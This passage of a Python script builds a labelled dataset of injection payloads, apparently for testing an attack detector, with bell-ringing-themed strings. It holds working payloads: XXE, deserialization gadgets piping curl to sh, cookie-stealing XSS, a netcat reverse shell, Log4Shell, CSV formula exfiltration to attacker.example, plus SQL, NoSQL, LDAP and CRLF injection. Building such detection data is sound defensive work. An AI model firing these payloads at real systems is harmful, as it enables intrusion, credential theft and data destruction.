    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A2),\"//a\")"),
    ("csv-formula", "12345,St Mary,8,\"=WEBSERVICE(\"\"http://attacker.example/?\"\"&C3)\",Tue"),
    ("csv-formula", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><tower><name>&x;</name></tower>"),
    ("xxe", "<!DOCTYPE peal [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><peal/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&s;</r>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY a \"bell\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><x>&c;</x>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("deserialization", "O:8:\"Ringer\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"curl attacker.example/j|sh\"]}]}"),
    ("deserialization", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("deserialization", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exp\",\"autoCommit\":true}"),
    ("deserialization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n"),
]

# ------------------------------------------------------------------ nosqli
A["nosqli"] = [
    ("operator-injection", "{\"$ne\": null}"),
    ("operator-injection", "{\"username\": \"captain\", \"password\": {\"$ne\": \"\"}}"),
    ("operator-injection", "{\"$gt\": \"\"}"),
    ("operator-injection", "password[$ne]=x"),
    ("operator-injection", "email[$regex]=^a.*&password[$ne]=1"),
    ("operator-injection", "{\"tower\": {\"$regex\": \".*\"}, \"role\": \"admin\"}"),
    ("operator-injection", "{\"$or\": [{\"role\": \"admin\"}, {\"1\": \"1\"}]}"),
    ("operator-injection", "{\"login\": {\"$in\": [\"admin\", \"captain\", \"root\"]}}"),
    ("operator-injection", "{\"pw\": {\"$exists\": true}}"),
    ("operator-injection", "username[$nin][]=nobody&password[$gt]="),
    ("operator-injection", "{\"api_token\": {\"$regex\": \"^a\", \"$options\": \"i\"}}"),
    ("operator-injection", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("js-injection", "{\"$where\": \"this.role == 'admin'\"}"),
    ("js-injection", "'; return true; var x='"),
    ("js-injection", "St Mary'; sleep(5000); var z='"),
    ("js-injection", "{\"$where\": \"function(){ return this.pw.match(/^a/) != null; }\"}"),
    ("js-injection", "1; while(true){}"),
    ("js-injection", "'||'1'=='1"),
    ("js-injection", "{\"$function\": {\"body\": \"function(){ return true; }\", \"args\": [], \"lang\": \"js\"}}"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("aggregation", "{\"$unionWith\": \"society_admins\"}"),
    ("aggregation", "[{\"$match\": {}}, {\"$out\": \"ringers\"}]"),
    ("mass-assignment", "{\"name\": \"Grandsire\", \"$set\": {\"role\": \"admin\"}}"),
    ("mass-assignment", "{\"$rename\": {\"password\": \"bio\"}}"),
    ("couch-elastic", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}"),
    ("couch-elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("redis", "peal\r\nFLUSHALL\r\n"),
]

# ------------------------------------------------------------------ crlf
A["crlf"] = [
    ("log-forging", "Tuesday practice\n2024-05-14 19:31:02 INFO login success user=admin ip=127.0.0.1"),
    ("log-forging", "1260 Grandsire\r\n[AUDIT] role changed: mallory -> society_admin"),
    ("log-forging", "St Mary%0d%0a2024-03-01 INFO password reset OK for captain"),
    ("log-forging", "peal report\n\n=== LOG ROTATED ===\nWARN all previous entries invalid"),
    ("log-forging", "ringer%0aINFO user=captain action=delete_all_bookings status=approved"),
    ("log-forging", "search: stedman\u2028ERROR 500 admin session token=FAKE-TOKEN-123"),
    ("log-forging", "Ely\r\n127.0.0.1 - - [01/Jan/2024:00:00:00] \"GET /admin HTTP/1.1\" 200"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("header-injection", "https://stmarys.example.org/%0d%0aLocation:%20https://attacker.example/"),
    ("header-injection", "peals.csv\r\nContent-Disposition: attachment; filename=\"invoice.exe\""),
    ("header-injection", "/towers?county=Devon%0D%0AX-Forwarded-For:%20127.0.0.1"),
    ("header-injection", "utf-8\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("header-injection", "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header-injection", "bells\u560d\u560aSet-Cookie: role=captain"),
    ("response-splitting", "oxford%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "en\r\n\r\n<html><body>Tower closed. Log in again: <form action=https://attacker.example/>"),
    ("response-splitting", "/newsletter%0D%0A%0D%0A<img src=x onerror=alert(document.cookie)>"),
    ("mail-header", "captain@st-marys.example.org\r\nBcc: everyone@attacker.example"),
    ("mail-header", "Spring outing\nCc: list@attacker.example\nX-Priority: 1"),
    ("mail-header", "anne@example.org%0ABcc:%20mallory@attacker.example"),
    ("mail-header", "Bell News\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Renew your subs</a>"),
    ("mail-header", "Fay Moss <fay@example.org>\nReply-To: treasurer@attacker.example"),
    ("mail-header", "Quarter peal report\r\nTo: all-ringers@example.org, spam@attacker.example"),
    ("mail-header", "\"Ringers\" <ringers@example.org>%0d%0aSubject:%20Urgent%20bank%20details%20changed"),
    ("csv-row-injection", "St Mary\n99999,\"Fake Tower\",12,\"=HYPERLINK(\"\"https://attacker.example\"\")\",Mon"),
    ("csv-row-injection", "All Saints\r\n10001,Admin,1,0,\"role=admin\""),
    ("csv-row-injection", "Holt\",8,11-2-2\n\"=cmd|' /C calc'!A0\",6,1"),
    ("csv-row-injection", "Wells;10\n;=1+cmd|'/C ping 203.0.113.3'!A1;"),
    ("smtp-injection", "subs reminder\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSpoofed\r\n.\r\n"),
    ("header-injection", "Bells%0d%0aRefresh:%200;url=https://attacker.example/"),
]

# ------------------------------------------------------------------ ldap-xpath
A["ldap-xpath"] = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "captain)(|(objectClass=*)"),
    ("ldap", "*)(memberOf=cn=admins,ou=groups,dc=ringers,dc=example,dc=org)"),
    ("ldap", "anne*)(userPassword=a*"),
    ("ldap", "admin)(&)"),
    ("ldap", "*))%00"),
    ("ldap", "St Mary)(|(cn=*))"),
    ("ldap", "x)(!(cn=nobody))(cn=*"),
    ("ldap", "ringer)(|(userPassword=*)"),
    ("ldap", "*)(|(description=*password*)"),
    ("xpath", "anne' or '1'='1' or 'a'='a"),
    ("xpath", "x' or name()='ringer' or 'a'='b"),
    ("xpath", "St Giles'] | //ringer/password | //x['"),
    ("xpath", "' or count(/towers/tower)>0 or '"),
    ("xpath", "1260' and substring(//user[1]/pw,1,1)='a"),
    ("xpath", "\") or (\"1\"=\"1"),
    ("xpath", "x'] | /* | /foo['"),
    ("xpath", "' or string-length(//admin/password)>5 or 'x'='y"),
    ("xpath", "Oxford' or doc('http://attacker.example/x.xml') or '"),
    ("xpath", "'] | //peal[contains(.,'') or '1'='1"),
]

# -------------------------------------------- generated: theme prefix + payload pool
PREFIXES = {
    "xss": ["Lovely quarter today! ", "Tower note: ", "Bio: learnt at St Giles ", "Wedding booking — ",
            "Newsletter item: "],
    "cmdi": ["peal_photo_", "towers_export", "newsletter-", "quarter_", "rota_"],
    "code": ["Dear ringer, ", "Practice reminder: ", "Tower name: ", "Footnote: "],
}
POOLS = {
    "xss": [("event-handler+prefix", "<img src=q onerror=fetch('//attacker.example/k?'+document.cookie)>"),
            ("event-handler+prefix", "<svg/onload=location='//attacker.example/?'+document.cookie>"),
            ("script-tag+prefix", "<script>document.write('<img src=//attacker.example/?'+document.cookie+'>')</script>")],
    "cmdi": [("separator+prefix", "2024.csv;curl -s attacker.example/i|sh"),
             ("substitution+prefix", "$(nc -e /bin/sh 198.51.100.50 4444).pdf"),
             ("separator+prefix", ".txt|wget http://203.0.113.66/x -O-|sh")],
    "code": [("ssti-jinja+prefix", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
             ("log4shell+prefix", "${jndi:ldap://attacker.example/bell}"),
             ("el-injection+prefix", "${T(java.lang.Runtime).getRuntime().exec('whoami')}")],
}
N_PREFIXED = {"xss": 2, "cmdi": 4, "code": 6}

# -------------------------------------------- generated: percent-encode every byte once
URLENC = {
    "sqli": [("union-based", "St Mary' UNION SELECT login,pw FROM ringers-- "),
             ("boolean-blind", "peal' OR 'x'='x"),
             ("time-blind", "1260' AND SLEEP(6)#"),
             ("stacked", "tower'; DROP TABLE bookings;--")],
    "traversal": [("dotdot", "../../../../etc/passwd"),
                  ("dotdot", "..\\..\\..\\windows\\win.ini"),
                  ("dotdot", "photos/../../../app/.env")],
}

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def build():
    rng = random.Random(SEED)
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    rows, stats, seen = [], {}, set()
    for cat in ORDER:
        items = []
        for cls, v in A[cat]:
            assert v not in seen, ("dup", cat, v)
            seen.add(v)
            items.append((cls, v))
        nlit = len(items)
        if cat in N_PREFIXED:
            want = nlit + N_PREFIXED[cat]
            guard = 0
            while len(items) < want:
                guard += 1
                assert guard < 1000
                p = rng.choice(PREFIXES[cat])
                cls, pay = rng.choice(POOLS[cat])
                v = p + pay
                if v in seen:
                    continue
                seen.add(v)
                items.append((cls, v))
        for cls, raw in URLENC.get(cat, []):
            v = pct_all(raw)
            assert v not in seen
            seen.add(v)
            items.append((cls + "+urlencode", v))
        stats[cat] = (len(items), nlit)
        for cls, v in items:
            assert v not in benign, ("equals benign", v)
            rows.append((cat, cls, v))
    return rows, stats


def main():
    rows, stats = build()
    out = os.path.join(HERE, "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert 1 <= len(v) <= 2000, v
            assert not any((ord(c) < 32 and c not in "\n\r\t") or ord(c) == 127 for c in v), v
            obj = {"id": "haid-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    tl = 0
    for cat in ORDER:
        print("%-12s n=%d literals=%d" % (cat, stats[cat][0], stats[cat][1]))
        tl += stats[cat][1]
    print("total", len(rows), "literals", tl, "share %.1f%%" % (100.0 * tl / len(rows)))


if __name__ == "__main__":
    main()
